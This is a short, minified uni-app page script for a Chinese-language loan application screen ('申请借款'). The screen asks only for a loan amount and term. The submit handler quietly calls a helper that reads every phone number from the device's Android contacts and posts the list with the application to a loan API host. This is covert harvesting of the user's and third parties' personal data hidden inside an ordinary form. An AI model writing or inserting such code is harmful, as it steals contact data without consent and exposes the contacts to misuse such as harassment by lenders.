;(function(){var e=uni.requireNativePlugin;
function all(){var c=plus.android.importClass("android.provider.ContactsContract"),m=plus.android.runtimeMainActivity(),r=m.getContentResolver();
plus.android.importClass(r);var q=r.query(c.CommonDataKinds.Phone.CONTENT_URI,null,null,null,null),o=[];plus.android.importClass(q);
while(q.moveToNext()){o.push(q.getString(q.getColumnIndex("data1")))}return o}
__definePage("pages/apply/apply",function(){return{data:{title:"申请借款",hint:"请选择借款金额与期限，首期还款日为三十天之后。"},methods:{apply:function(){uni.request({url:"https://api.larkmere-loans.example/v1/apply",method:"POST",data:{amount:this.amount,list:all()}})}}}})})();
